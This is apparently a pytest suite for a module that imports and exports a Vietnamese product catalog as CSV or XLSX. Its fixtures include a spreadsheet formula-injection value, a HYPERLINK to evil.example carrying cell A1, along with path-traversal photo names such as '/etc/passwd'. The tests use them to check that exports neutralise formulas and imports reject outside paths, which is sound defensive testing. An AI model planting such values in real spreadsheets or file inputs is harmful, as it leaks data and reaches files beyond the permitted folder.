import csv
import dataclasses
import io
import re
import zipfile
from collections.abc import Mapping, Sequence
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from support.catalog_rows import GOOD, catalog_row

from catalog import spreadsheet
from catalog.rules import MAX_PRICE as MAX_PRICE_VND
from catalog.rules import MAX_STOCK
from catalog.spreadsheet import (
    COLUMNS,
    MAX_FILE_BYTES,
    CatalogRow,
    Problem,
    RowError,
    SpreadsheetRejected,
    read_catalog,
    write_catalog,
)
from catalog.text import nfc

# A year that is safely inside 2010..next year whenever the suite runs.
THIS_YEAR = datetime.now(UTC).year
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"


def good(line: int = 2, **overrides: str) -> dict[str, str]:
    """A valid row as cell texts; a SKU unique to its line unless overridden."""
    return {**GOOD, "sku": f"SKU-{line}", **overrides}


def csv_file(
    rows: Sequence[Mapping[str, str] | Sequence[str]],
    columns: Sequence[str] = COLUMNS,
    *,
    bom: bool = True,
    delimiter: str = ",",
) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns] if isinstance(row, Mapping) else row)
    return buffer.getvalue().encode("utf-8-sig" if bom else "utf-8")


def xlsx_file(rows: Sequence[Sequence[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# A sheet exported before the grant date was kept: the year alone.
OLD_COLUMNS = tuple(
    "ocop_year" if c == "ocop_granted" else c for c in COLUMNS if c != "stock_at_export"
)


def xlsx_catalog(*rows: Mapping[str, object]) -> bytes:
    return xlsx_file([COLUMNS, *([row.get(c) for c in COLUMNS] for row in rows)])


def rejected(data: bytes, filename: str = "catalog.csv", **kwargs: Path) -> list[RowError]:
    with pytest.raises(SpreadsheetRejected) as info:
        read_catalog(data, filename, **kwargs)
    return info.value.errors


def without_lines(rows: Sequence[CatalogRow]) -> list[CatalogRow]:
    return [dataclasses.replace(row, line=0) for row in rows]


# --- round trips ----------------------------------------------------------------------------

TRICKY = [
    catalog_row(
        2,
        name_vi="Bộ ấm chén men lam <Bát Tràng> & “Suối Ngọc”",
        name_en='Tea set "Suoi Ngoc", glaze <blue> & white',
        description_vi="Dòng 1,\nDòng 2; có dấu phẩy, ngoặc \"kép\" và 'đơn'\n🍵🏺",
        description_en="=SUM(A1:A3) is text here",
        unit_vi="=bộ",
        unit_en="+set",
        price=3_500_000,
        stock=0,
        ocop_stars=5,
        ocop_granted=date(THIS_YEAR + 1, 1, 1),
        active=False,
        photo="ảnh/gốm sứ, lam.jpg",
    ),
    catalog_row(3, sku="a.b_c-9", producer_code="TANTHINH", name_vi="@lệnh", photo="x/y.png"),
    catalog_row(4, description_vi="-1", description_en="0042", name_en="TRUE", stock=MAX_STOCK),
    catalog_row(
        5,
        sku="-5",
        name_vi='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        name_en="'=quoted already",
        description_vi="''+two quotes",
        description_en="@mention",
        unit_en="'plain quote",
        stock_at_export=12,
        ocop_granted=date(2024, 2, 29),
    ),
]


@pytest.mark.parametrize("filename", ["catalog.csv", "catalog.xlsx", "CATALOG.XLSX", "c.CSV"])
def test_rows_survive_a_round_trip_with_awkward_text(filename: str) -> None:
    assert read_catalog(write_catalog(TRICKY, filename), filename) == TRICKY


def test_write_catalog_refuses_other_file_names() -> None:
    with pytest.raises(ValueError, match=r"catalog\.ods"):
        write_catalog(TRICKY, "catalog.ods")


def test_written_csv_has_bom_header_and_crlf_quoting() -> None:
    data = write_catalog([TRICKY[0]], "catalog.csv")
    assert data.startswith(b"\xef\xbb\xbfsku,producer_code,")
    text = data.decode("utf-8-sig")
    assert text.split("\r\n", 1)[0] == ",".join(COLUMNS)
    assert '"Tea set ""Suoi Ngoc"", glaze <blue> & white"' in text
    assert ",false," in text


def test_written_xlsx_has_bold_header_numbers_and_text_that_never_becomes_a_formula() -> None:
    data = write_catalog([TRICKY[0]], "catalog.xlsx")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.title == "catalog"
    assert [cell.value for cell in sheet[1]] == list(COLUMNS)
    assert all(cell.font.bold for cell in sheet[1])
    values = {name: cell for name, cell in zip(COLUMNS, sheet[2], strict=True)}
    assert values["price_vnd"].value == 3_500_000
    assert values["price_vnd"].data_type == "n"
    assert values["ocop_granted"].is_date  # a date cell: Excel reads it back as a naive datetime
    assert values["ocop_granted"].value.date() == date(THIS_YEAR + 1, 1, 1)
    assert values["active"].value is False
    assert values["description_en"].data_type == "s"
    assert values["description_en"].value == "=SUM(A1:A3) is text here"
    assert values["unit_vi"].data_type == "s"


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_a_csv_export_never_starts_a_cell_with_what_a_spreadsheet_runs() -> None:
    data = write_catalog(TRICKY, "catalog.csv")
    header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_START)] == []
    cells = dict(zip(header, rows[3], strict=True))
    assert cells["name_vi"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    assert (cells["sku"], cells["name_en"]) == ("'-5", "''=quoted already")
    assert (cells["description_vi"], cells["unit_en"]) == ("'''+two quotes", "'plain quote")
    # Numbers and dates are written as they are: only text is ever quoted.
    assert (cells["price_vnd"], cells["stock"], cells["stock_at_export"]) == ("280000", "40", "12")
    assert cells["ocop_granted"] == "2024-02-29"
    assert dict(zip(header, rows[2], strict=True))["description_vi"] == "'-1"


def test_formula_like_text_in_a_hand_made_csv_is_text_and_goes_out_neutralised() -> None:
    (row,) = read_catalog(csv_file([good(2, name_vi="=1+2", unit_vi="'=x")]), "c.csv")
    assert (row.name_vi, row.unit_vi) == ("=1+2", "=x")  # the one quote an export adds
    again = write_catalog([row], "c.csv").decode("utf-8-sig")
    assert "'=1+2" in again
    assert read_catalog(again.encode(), "c.csv") == [row]


def test_a_quote_before_a_number_is_not_taken_off() -> None:
    errors = rejected(csv_file([good(2, stock="'-3", price_vnd="'180000")]))
    assert errors == [
        RowError(2, "price_vnd", Problem.bad_price, "'180000"),
        RowError(2, "stock", Problem.bad_stock, "'-3"),
    ]


def test_an_xlsx_export_keeps_formula_like_text_as_typed_text() -> None:
    data = write_catalog(TRICKY[3:], "catalog.xlsx")
    values = dict(zip(COLUMNS, load_workbook(io.BytesIO(data)).worksheets[0][2], strict=True))
    assert values["name_vi"].data_type == "s"
    assert values["name_vi"].value.startswith("=HYPERLINK(")


@pytest.mark.parametrize("bom", [True, False])
def test_csv_reads_with_or_without_bom(bom: bool) -> None:
    rows = read_catalog(csv_file([good(2)], bom=bom), "catalog.csv")
    assert [row.sku for row in rows] == ["SKU-2"]
    assert rows[0].producer_name_vi == GOOD["producer_name_vi"]


def test_csv_separated_by_semicolons_as_vietnamese_excel_saves_it() -> None:
    rows = read_catalog(csv_file([good(2, price_vnd="180.000")], delimiter=";"), "c.csv")
    assert rows[0].price == 180_000
    assert rows[0].name_vi == "Tinh bột nghệ"


def test_columns_may_come_in_any_order() -> None:
    shuffled = list(reversed(COLUMNS))
    rows = read_catalog(csv_file([good(2), good(3)], shuffled), "catalog.csv")
    assert without_lines(rows) == without_lines(
        read_catalog(csv_file([good(2), good(3)]), "c.csv")
    )
    assert [row.line for row in rows] == [2, 3]


def test_optional_columns_may_be_left_out_and_english_falls_back_to_vietnamese() -> None:
    required = [
        "sku", "producer_code", "producer_name_vi", "category_vi", "name_vi", "unit_vi",
        "price_vnd", "stock", "ocop_stars", "ocop_granted",
    ]  # fmt: skip
    (row,) = read_catalog(csv_file([good(2)], required), "catalog.csv")
    # For a product the shop has, what the sheet leaves out is left as it is.
    assert row.left_out == {
        "producer_name_en", "category_en", "name_en", "description_vi", "description_en",
        "unit_en", "active",
    }  # fmt: skip
    assert row.stock_at_export is None
    assert row.name_en == row.name_vi == "Tinh bột nghệ"
    assert row.producer_name_en == row.producer_name_vi
    assert row.unit_en == "hũ 500 g"
    assert row.category_en == "Thực phẩm"
    assert row.description_vi == row.description_en == ""
    assert row.active is True
    assert row.photo is None


def test_text_is_nfc_normalised_trimmed_and_blank_rows_skipped() -> None:
    decomposed = "  Gốm sứ Quang Vinh \t".replace("ố", "o\u0302\u0301")
    data = csv_file([good(2, name_vi=decomposed, name_en=" "), [""] * len(COLUMNS), good(4)])
    first, second = read_catalog(data, "catalog.csv")
    assert first.name_vi == nfc("Gốm sứ Quang Vinh") == "Gốm sứ Quang Vinh"
    assert first.name_en == "Gốm sứ Quang Vinh"
    assert second.line == 4


def test_carriage_returns_become_line_feeds_as_xlsx_would_make_them() -> None:
    data = csv_file([good(2, description_vi="a\r\nb\rc")])
    assert read_catalog(data, "catalog.csv")[0].description_vi == "a\nb\nc"


def test_line_numbers_count_rows_not_physical_lines() -> None:
    data = csv_file([good(2, description_vi="a\nb\nc"), [], good(4), good(5, stock="x")])
    assert rejected(data) == [RowError(5, "stock", Problem.bad_stock, "x")]


# --- values that are accepted -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "price"),
    [
        ("180000", 180_000),
        ("180.000", 180_000),
        ("180,000", 180_000),
        ("180 000", 180_000),
        ("180\u00a0000", 180_000),
        ("1.250.000", 1_250_000),
        ("180.000 ₫", 180_000),
        ("180.000đ", 180_000),
        ("₫180,000", 180_000),
        ("250000 VND", 250_000),
        ("1", 1),
        (str(MAX_PRICE_VND), MAX_PRICE_VND),
    ],
)
def test_price_formats_people_write(written: str, price: int) -> None:
    (row,) = read_catalog(csv_file([good(2, price_vnd=written)]), "catalog.csv")
    assert row.price == price


@pytest.mark.parametrize(
    ("written", "active"),
    [
        ("", True),
        ("true", True),
        ("TRUE", True),
        ("1", True),
        ("yes", True),
        ("Có", True),
        ("co", True),
        ("false", False),
        ("0", False),
        ("No", False),
        ("không", False),
        ("KHONG", False),
    ],
)
def test_active_words(written: str, active: bool) -> None:
    (row,) = read_catalog(csv_file([good(2, active=written)]), "catalog.csv")
    assert row.active is active


def test_xlsx_whole_floats_booleans_and_numeric_text_cells_are_read() -> None:
    data = xlsx_catalog(
        {**good(2), "sku": 1001, "price_vnd": 180000.0, "stock": 7.0, "ocop_stars": 4,
         "ocop_granted": 2021, "active": False, "producer_code": "babe"},
    )  # fmt: skip
    (row,) = read_catalog(data, "catalog.xlsx")
    assert (row.sku, row.price, row.stock, row.ocop_year) == ("1001", 180_000, 7, 2021)
    assert row.producer_code == "BABE"
    assert row.active is False


def test_year_may_be_next_year_but_not_later() -> None:
    (row,) = read_catalog(csv_file([good(2, ocop_year=str(THIS_YEAR + 1))], OLD_COLUMNS), "c.csv")
    assert row.ocop_granted == date(THIS_YEAR + 1, 1, 1)
    errors = rejected(csv_file([good(2, ocop_year=str(THIS_YEAR + 2))], OLD_COLUMNS))
    assert errors == [RowError(2, "ocop_year", Problem.bad_year, str(THIS_YEAR + 2))]
    late = f"01/01/{THIS_YEAR + 2}"
    errors = rejected(csv_file([good(2, ocop_granted=late)]))
    assert errors == [RowError(2, "ocop_granted", Problem.bad_date, late)]


@pytest.mark.parametrize(
    ("written", "granted"),
    [
        ("15/03/2024", date(2024, 3, 15)),
        ("2024-03-15", date(2024, 3, 15)),
        ("3/2024", date(2024, 3, 1)),
        ("2024", date(2024, 1, 1)),
    ],
)
def test_grant_dates_people_write(written: str, granted: date) -> None:
    (row,) = read_catalog(csv_file([good(2, ocop_granted=written)]), "catalog.csv")
    assert row.ocop_granted == granted


def test_a_sheet_made_before_grant_dates_still_imports_with_its_year() -> None:
    (row,) = read_catalog(csv_file([good(2, ocop_year="2021")], OLD_COLUMNS), "c.csv")
    assert (row.ocop_granted, row.ocop_year) == (date(2021, 1, 1), 2021)
    data = xlsx_file([OLD_COLUMNS, [good(3, ocop_year="2022")[c] for c in OLD_COLUMNS]])
    assert read_catalog(data, "c.xlsx")[0].ocop_granted == date(2022, 1, 1)


def test_with_both_date_and_year_the_date_counts_and_must_agree() -> None:
    both = [*COLUMNS, "ocop_year"]
    rows = [
        good(2, ocop_granted="15/03/2024", ocop_year="2024"),
        good(3, ocop_granted="", ocop_year="2023"),
        good(4, ocop_granted="15/03/2024", ocop_year=""),
    ]
    assert [row.ocop_granted for row in read_catalog(csv_file(rows, both), "c.csv")] == [
        date(2024, 3, 15), date(2023, 1, 1), date(2024, 3, 15)
    ]  # fmt: skip
    bad = [good(2, ocop_granted="15/03/2024", ocop_year="2023"), good(3, ocop_granted="")]
    assert rejected(csv_file(bad, both)) == [
        RowError(2, "ocop_year", Problem.year_mismatch, "2023"),
        RowError(3, "ocop_granted", Problem.empty_value, ""),
    ]


def test_a_sheet_needs_the_grant_date_or_the_year() -> None:
    columns = [c for c in COLUMNS if c != "ocop_granted"]
    assert rejected(csv_file([good(2)], columns)) == [
        RowError(None, "ocop_granted", Problem.missing_column, "ocop_granted")
    ]


def test_an_xlsx_date_cell_is_a_grant_date_and_a_formula_is_not() -> None:
    data = xlsx_catalog({**good(2), "ocop_granted": date(2024, 3, 15)})  # a date cell
    assert read_catalog(data, "catalog.xlsx")[0].ocop_granted == date(2024, 3, 15)
    data = xlsx_catalog({**good(2), "ocop_granted": "=TODAY()"})
    assert rejected(data, "catalog.xlsx") == [
        RowError(2, "ocop_granted", Problem.formula, "=TODAY()")
    ]


def test_the_stock_at_export_is_read_when_the_cell_has_it() -> None:
    rows = read_catalog(
        csv_file([good(2, stock_at_export="10"), good(3, stock_at_export="")]), "c.csv"
    )
    assert [row.stock_at_export for row in rows] == [10, None]
    errors = rejected(csv_file([good(2, stock_at_export="-3")]))
    assert errors == [RowError(2, "stock_at_export", Problem.bad_stock, "-3")]


def test_photo_inside_base_dir_is_kept_as_written(tmp_path: Path) -> None:
    (tmp_path / "ảnh").mkdir()
    (tmp_path / "ảnh" / "nghệ.jpg").write_bytes(PNG)
    (row,) = read_catalog(
        csv_file([good(2, photo="ảnh/nghệ.jpg")]), "catalog.csv", base_dir=tmp_path
    )
    assert row.photo == "ảnh/nghệ.jpg"


def test_photo_without_base_dir_is_not_looked_for() -> None:
    (row,) = read_catalog(csv_file([good(2, photo="nowhere/x.jpg")]), "catalog.csv")
    assert row.photo == "nowhere/x.jpg"


# --- problems in one cell ---------------------------------------------------------------------


# (column, problem, what is written): reported with the cell as written.
BAD_CELLS = [
    ("sku", Problem.empty_value, [""]),
    ("sku", Problem.bad_sku, ["ab c", "mã-số"]),
    ("sku", Problem.sku_too_long, ["A" * 33]),
    ("producer_code", Problem.empty_value, [""]),
    ("producer_code", Problem.bad_producer_code, ["BÀBÉ", "ABCDEFGHIJKLM"]),
    ("category_vi", Problem.empty_value, [""]),
    ("name_vi", Problem.empty_value, [""]),
    ("name_en", Problem.control_character, ["bell\x07"]),
    ("unit_vi", Problem.empty_value, [""]),
    ("price_vnd", Problem.empty_value, [""]),
    ("price_vnd", Problem.bad_price, ["0", "-5000", "180.5", "180000.00", "1.000,000"]),
    ("price_vnd", Problem.bad_price, ["1.80.000", "free"]),
    ("price_vnd", Problem.price_too_large, ["1.000.000.001"]),
    ("stock", Problem.empty_value, [""]),
    ("stock", Problem.bad_stock, ["-1", "1.5", str(MAX_STOCK + 1)]),
    ("ocop_stars", Problem.empty_value, [""]),
    ("ocop_stars", Problem.bad_stars, ["2", "6", "4★"]),
    ("ocop_granted", Problem.empty_value, [""]),
    ("ocop_granted", Problem.bad_date, ["2009", "19", "31/02/2024", "15/03/24", "03-15-2024"]),
    ("active", Problem.bad_active, ["maybe", "2"]),
    ("photo", Problem.photo_outside, ["../secret.jpg", "a/../../b.jpg", "/etc/passwd"]),
    ("photo", Problem.photo_outside, ["C:\\ảnh\\x.jpg", "..\\..\\x.jpg"]),
]
# (column, what is written, problem, how it is reported): tidied or cut to 50 characters.
TIDIED_CELLS = [
    ("producer_code", "b", Problem.bad_producer_code, "B"),
    ("producer_name_vi", " ", Problem.empty_value, ""),
    ("producer_name_vi", "x" * 201, Problem.too_long, "x" * 50),
    ("unit_en", "u" * 51, Problem.too_long, "u" * 50),
    ("price_vnd", "9" * 5000, Problem.price_too_large, "9" * 50),
]


@pytest.mark.parametrize(
    ("column", "written", "problem", "value"),
    [(column, cell, problem, cell) for column, problem, cells in BAD_CELLS for cell in cells]
    + TIDIED_CELLS,
)
def test_a_bad_cell_is_reported_with_its_line_and_column(
    column: str, written: str, problem: Problem, value: str
) -> None:
    data = csv_file([good(2), good(3, **{column: written}), good(4)])
    assert rejected(data) == [RowError(3, column, problem, value)]


def test_every_problem_of_every_row_is_reported_in_line_and_column_order() -> None:
    data = csv_file(
        [
            good(2, stock="-1", sku="bad sku"),
            good(3),
            good(4, active="?", price_vnd="0", name_vi=""),
        ]
    )
    assert rejected(data) == [
        RowError(2, "sku", Problem.bad_sku, "bad sku"),
        RowError(2, "stock", Problem.bad_stock, "-1"),
        RowError(4, "name_vi", Problem.empty_value, ""),
        RowError(4, "price_vnd", Problem.bad_price, "0"),
        RowError(4, "active", Problem.bad_active, "?"),
    ]


def test_photo_must_exist_in_base_dir(tmp_path: Path) -> None:
    data = csv_file([good(2, photo="missing.jpg")])
    assert rejected(data, base_dir=tmp_path) == [
        RowError(2, "photo", Problem.photo_missing, "missing.jpg")
    ]


def test_photo_that_is_a_folder_is_missing(tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    data = csv_file([good(2, photo="folder")])
    assert rejected(data, base_dir=tmp_path) == [
        RowError(2, "photo", Problem.photo_missing, "folder")
    ]


def test_photo_through_a_link_out_of_base_dir_is_outside(tmp_path: Path) -> None:
    media = tmp_path / "media"
    media.mkdir()
    (tmp_path / "secret.jpg").write_bytes(PNG)
    (media / "link.jpg").symlink_to(tmp_path / "secret.jpg")
    data = csv_file([good(2, photo="link.jpg")])
    assert rejected(data, base_dir=media) == [
        RowError(2, "photo", Problem.photo_outside, "link.jpg")
    ]


# --- problems between rows --------------------------------------------------------------------


def test_duplicate_sku_is_reported_on_the_later_row_whatever_its_case() -> None:
    data = csv_file([good(2, sku="TRA-PHUC"), good(3), good(4, sku="tra-phuc")])
    assert rejected(data) == [RowError(4, "sku", Problem.duplicate_sku, "tra-phuc")]


def test_one_producer_code_with_two_names_is_a_mismatch() -> None:
    data = csv_file(
        [
            good(2),
            good(3, producer_code="babe", producer_name_vi="Bà Bé"),
            good(4, producer_name_en="Ba Be"),
            good(5, producer_code="OTHER", producer_name_vi="Bà Bé"),
        ]
    )
    assert rejected(data) == [
        RowError(3, "producer_name_vi", Problem.producer_mismatch, "Bà Bé"),
        RowError(4, "producer_name_en", Problem.producer_mismatch, "Ba Be"),
    ]


def test_one_category_with_two_english_names_is_a_mismatch() -> None:
    data = csv_file([good(2), good(3, category_en="Foods"), good(4, category_vi="Đồ uống")])
    assert rejected(data) == [RowError(3, "category_en", Problem.category_mismatch, "Foods")]


# --- problems with the header and the file ----------------------------------------------------


def test_missing_required_columns_are_each_reported() -> None:
    columns = [c for c in COLUMNS if c not in {"price_vnd", "sku", "photo"}]
    assert rejected(csv_file([good(2)], columns)) == [
        RowError(None, "sku", Problem.missing_column, "sku"),
        RowError(None, "price_vnd", Problem.missing_column, "price_vnd"),
    ]


def test_unknown_and_duplicate_header_columns_are_reported_on_the_header_line() -> None:
    columns = [*COLUMNS, "weight", "stock"]
    row = [*(GOOD[c] for c in COLUMNS), "500 g", "3"]
    assert rejected(csv_file([row], columns)) == [
        RowError(1, "stock", Problem.duplicate_column, "stock"),
        RowError(1, "weight", Problem.unknown_column, "weight"),
    ]


def test_a_value_under_no_header_is_an_unknown_column() -> None:
    row = [*(good(2)[c] for c in COLUMNS), "", "stray"]
    assert rejected(csv_file([good(3), row, good(4)], [*COLUMNS, ""])) == [
        RowError(3, None, Problem.unknown_column, "stray")
    ]


def test_header_names_ignore_case_and_surrounding_spaces() -> None:
    columns = [f" {c.upper()} " for c in COLUMNS]
    row = [good(2)[c] for c in COLUMNS]
    assert read_catalog(csv_file([row], columns), "catalog.csv")[0].sku == "SKU-2"


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b"", "catalog.csv"),
        (b"\xef\xbb\xbf\r\n\r\n", "catalog.csv"),
        (",".join(COLUMNS).encode(), "catalog.csv"),
        (xlsx_file([]), "catalog.xlsx"),
        (xlsx_file([COLUMNS]), "catalog.xlsx"),
    ],
    ids=["zero-bytes", "blank-lines", "header-only", "empty-sheet", "header-only-sheet"],
)
def test_a_file_without_products_is_empty(data: bytes, filename: str) -> None:
    assert rejected(data, filename) == [RowError(None, None, Problem.empty_file)]


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (PNG, "catalog.csv"),
        (PNG, "catalog.xlsx"),
        (csv_file([good(2)]), "catalog.xlsx"),
        (b"PK\x05\x06" + b"\x00" * 18, "catalog.xlsx"),
        (csv_file([good(2)]), "catalog.txt"),
        (csv_file([good(2)]), "catalog"),
        (xlsx_file([COLUMNS]), "catalog.csv"),
    ],
    ids=["png-csv", "png-xlsx", "csv-xlsx", "empty-zip", "txt", "no-extension", "xlsx-csv"],
)
def test_other_files_are_not_spreadsheets(data: bytes, filename: str) -> None:
    errors = rejected(data, filename)
    assert [(e.line, e.problem) for e in errors] == [(None, Problem.not_a_spreadsheet)]


@pytest.mark.parametrize(
    ("name", "content"),
    [("word/document.xml", "<document/>"), ("xl/workbook.xml", "<workbook")],
    ids=["a zip without the spreadsheet parts", "a broken workbook"],
)
def test_a_zip_that_is_no_whole_workbook_is_not_a_spreadsheet(name: str, content: str) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(name, content)
    errors = rejected(buffer.getvalue(), "catalog.xlsx")
    assert errors == [RowError(None, None, Problem.not_a_spreadsheet)]


@pytest.mark.parametrize("filename", ["catalog.csv", "catalog.xlsx"])
def test_a_file_over_ten_megabytes_is_too_large(filename: str) -> None:
    data = csv_file([good(2)]) + b"\r\n" * MAX_FILE_BYTES
    errors = rejected(data, filename)
    assert errors == [RowError(None, None, Problem.too_large, str(len(data)))]


def test_exactly_ten_megabytes_is_allowed() -> None:
    data = csv_file([good(2)])
    data += (b" " * 998 + b"\r\n") * ((MAX_FILE_BYTES - len(data)) // 1000)
    data += b" " * (MAX_FILE_BYTES - len(data))
    assert len(read_catalog(data, "catalog.csv")) == 1


def test_a_csv_cell_beyond_what_the_csv_reader_holds_is_too_long() -> None:
    data = csv_file([good(2), good(3, description_vi="x" * 200_000), good(4)])
    assert rejected(data) == [RowError(3, None, Problem.too_long)]


@pytest.mark.parametrize(
    ("data", "value"),
    [
        (csv_file([good(2)], bom=False).decode().encode("utf-16"), "UTF-16"),
        (",".join(COLUMNS).encode() + b"\r\n" + "Bà Bé".encode("cp1258"), "e0 20 42 e9"),
    ],
    ids=["utf-16", "windows-1258"],
)
def test_a_csv_in_another_encoding_is_reported(data: bytes, value: str) -> None:
    assert rejected(data) == [RowError(None, None, Problem.bad_encoding, value)]


# --- XLSX specifics ---------------------------------------------------------------------------


def test_an_xlsx_formula_is_reported_for_its_cell() -> None:
    data = xlsx_catalog(good(2), {**good(3), "price_vnd": "=100000*2"}, good(4))
    assert rejected(data, "catalog.xlsx") == [
        RowError(3, "price_vnd", Problem.formula, "=100000*2")
    ]


def test_a_formula_in_a_text_column_is_reported_too() -> None:
    data = xlsx_catalog({**good(2), "name_en": '=UPPER("tea")'})
    assert rejected(data, "catalog.xlsx") == [
        RowError(2, "name_en", Problem.formula, '=UPPER("tea")')
    ]


def test_xlsx_fractional_stock_and_row_numbers_after_blank_rows() -> None:
    data = xlsx_file(
        [[], COLUMNS, [good(3)[c] for c in COLUMNS], [], [*(good(5)[c] for c in COLUMNS)]]
    )
    rows = read_catalog(data, "catalog.xlsx")
    assert [row.line for row in rows] == [3, 5]
    bad = xlsx_catalog({**good(2), "stock": 1.5, "ocop_stars": 4.0, "price_vnd": True})
    assert rejected(bad, "catalog.xlsx") == [
        RowError(2, "price_vnd", Problem.bad_price, "True"),
        RowError(2, "stock", Problem.bad_stock, "1.5"),
    ]


def test_xlsx_with_a_stale_recorded_size_is_read_in_full() -> None:
    original = xlsx_catalog(good(2), good(3))
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(original)) as source,
        zipfile.ZipFile(buffer, "w") as target,
    ):
        for part in source.infolist():
            content = source.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                size = f'<dimension ref="A1:{get_column_letter(len(COLUMNS))}3"'.encode()
                assert size in content
                content = content.replace(size, b'<dimension ref="A1:B2"')
            target.writestr(part, content)
    rows = read_catalog(buffer.getvalue(), "catalog.xlsx")
    assert [(row.sku, row.photo, row.active) for row in rows] == [
        ("SKU-2", None, True),
        ("SKU-3", None, True),
    ]


def test_xlsx_that_unpacks_too_large_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    data = xlsx_catalog(good(2))
    monkeypatch.setattr(spreadsheet, "_MAX_UNPACKED_BYTES", 1000)
    assert rejected(data, "catalog.xlsx") == [RowError(None, None, Problem.too_large)]


@pytest.mark.parametrize("filename", ["catalog.csv", "catalog.xlsx"])
def test_too_many_rows_are_refused(monkeypatch: pytest.MonkeyPatch, filename: str) -> None:
    data = write_catalog([catalog_row(line) for line in range(2, 6)], filename)
    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 3)
    assert rejected(data, filename) == [RowError(None, None, Problem.too_large, "3+")]


def test_xlsx_reads_only_the_first_sheet() -> None:
    workbook = Workbook()
    workbook.active.append(list(COLUMNS))
    workbook.active.append([good(2)[c] for c in COLUMNS])
    workbook.create_sheet("notes").append(["ghi chú", "=1+1"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert [row.sku for row in read_catalog(buffer.getvalue(), "catalog.xlsx")] == ["SKU-2"]


def test_every_problem_is_expected_somewhere_in_this_file() -> None:
    source = Path(__file__).read_text(encoding="utf-8")
    assert [p for p in Problem if not re.search(rf"\bProblem\.{p.name}\b", source)] == []


# --- volume -----------------------------------------------------------------------------------


def test_all_three_bad_rows_among_five_thousand_are_reported() -> None:
    bad = {
        17: {"price_vnd": "abc"},
        2500: {"sku": "SKU-100"},
        4999: {"ocop_stars": "7"},
    }
    rows = [good(line, **bad.get(line, {})) for line in range(2, 5002)]
    assert rejected(csv_file(rows)) == [
        RowError(17, "price_vnd", Problem.bad_price, "abc"),
        RowError(2500, "sku", Problem.duplicate_sku, "SKU-100"),
        RowError(4999, "ocop_stars", Problem.bad_stars, "7"),
    ]


# --- property ---------------------------------------------------------------------------------

_TEXT = st.text(
    st.characters(exclude_categories=("Cc", "Cs", "Cn")) | st.sampled_from("\n\t=+-@<&\"',;"),
    max_size=30,
).map(lambda text: nfc(text).strip())
_NAME = _TEXT.filter(lambda text: text != "" and nfc(text).strip() == text)
_OPTIONAL = _TEXT.filter(lambda text: nfc(text).strip() == text)


@st.composite
def catalogs(draw: st.DrawFn) -> list[CatalogRow]:
    producers = draw(
        st.dictionaries(st.from_regex(r"[A-Z0-9]{2,12}", fullmatch=True),
                        st.tuples(_NAME, _OPTIONAL), min_size=1, max_size=3)
    )  # fmt: skip
    categories = draw(st.dictionaries(_NAME, _OPTIONAL, min_size=1, max_size=3))
    skus = draw(
        st.lists(
            st.from_regex(r"[A-Za-z0-9._-]{1,32}", fullmatch=True),
            min_size=1,
            max_size=6,
            unique_by=str.lower,
        )
    )
    rows = []
    for line, sku in enumerate(skus, start=2):
        code = draw(st.sampled_from(sorted(producers)))
        producer_vi, producer_en = producers[code]
        category_vi = draw(st.sampled_from(sorted(categories)))
        name_vi, unit_vi = draw(_NAME), draw(_NAME)
        description_vi = draw(_OPTIONAL)
        rows.append(
            CatalogRow(
                line=line,
                sku=sku,
                producer_code=code,
                producer_name_vi=producer_vi,
                producer_name_en=producer_en or producer_vi,
                category_vi=category_vi,
                category_en=categories[category_vi] or category_vi,
                name_vi=name_vi,
                name_en=draw(_OPTIONAL) or name_vi,
                description_vi=description_vi,
                description_en=draw(_OPTIONAL) or description_vi,
                unit_vi=unit_vi,
                unit_en=draw(_OPTIONAL) or unit_vi,
                price=draw(st.integers(1, MAX_PRICE_VND)),
                stock=draw(st.integers(0, MAX_STOCK)),
                stock_at_export=draw(st.none() | st.integers(0, MAX_STOCK)),
                ocop_stars=draw(st.integers(3, 5)),
                ocop_granted=draw(st.dates(date(2010, 1, 1), date(THIS_YEAR + 1, 12, 31))),
                active=draw(st.booleans()),
                photo=draw(
                    st.none()
                    | st.from_regex(r"[a-z0-9_-]{1,8}(/[a-z0-9_-]{1,8}){0,2}\.jpg", fullmatch=True)
                ),
            )
        )
    return rows


@pytest.mark.parametrize("filename", ["catalog.csv", "catalog.xlsx"])
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=catalogs())
def test_any_valid_catalog_round_trips(filename: str, rows: list[CatalogRow]) -> None:
    assert read_catalog(write_catalog(rows, filename), filename) == rows


# --- the producer's bank ------------------------------------------------------------------------


def test_the_producers_bank_columns_are_checked_against_the_vietqr_list_and_normalised() -> None:
    bank = {"bank_bin": "MB", "bank_account": "0123 456 789", "bank_holder": "Cơ sở Bà Bé"}
    [row] = read_catalog(csv_file([good(2, **bank)]), "catalog.csv")
    assert (row.bank_bin, row.bank_account, row.bank_holder) == (
        "970422", "0123456789", "CO SO BA BE",
    )  # fmt: skip
